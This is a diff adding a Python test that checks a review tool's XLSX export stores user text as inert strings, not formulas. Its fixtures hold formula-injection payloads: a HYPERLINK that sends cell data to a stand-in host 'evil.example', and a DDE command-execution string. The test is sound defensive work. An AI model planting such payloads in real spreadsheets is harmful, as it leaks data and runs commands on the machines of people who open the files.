@@ -13,6 +13,7 @@ from openpyxl import load_workbook
 from PIL import Image
 
 from firstchoice.reviews import actions, exports
+from firstchoice.reviews.models import Statement
 from tests.reviews.helpers import MONTH, MONTH_URL, ReviewCase
 
 URL = f"/meetings/alpha/{MONTH_URL}/"
@@ -192,3 +193,22 @@ class CommandTests(PackCase):
             call_command(
                 "export_review", team="alpha", month=MONTH_URL, format="xlsx", out="/nope/x.xlsx"
             )
+
+
+class InertXlsxTests(PackCase):
+    FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+    def test_it_writes_user_text_as_text_not_formulas(self) -> None:
+        self.alice_customers[0].name = self.FORMULA
+        self.alice_customers[0].save()
+        Statement.objects.filter(salesperson=self.alice_sp, month=MONTH).update(
+            progress="+cmd|' /C calc'!A0", difficulties="-2+3", help_needed="@SUM(A1)"
+        )
+        wb = load_workbook(io.BytesIO(exports.meeting_xlsx(self.alpha, MONTH)))
+        cells = {c.value: c for row in wb["Alice A"].iter_rows() for c in row}
+        for text in (self.FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"):
+            self.assertEqual(cells[text].data_type, "s", text)
+        formulas = [c for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+        self.assertEqual(formulas, [])
+        # A negative amount stays a number.
+        self.assertIn(-300, cells)
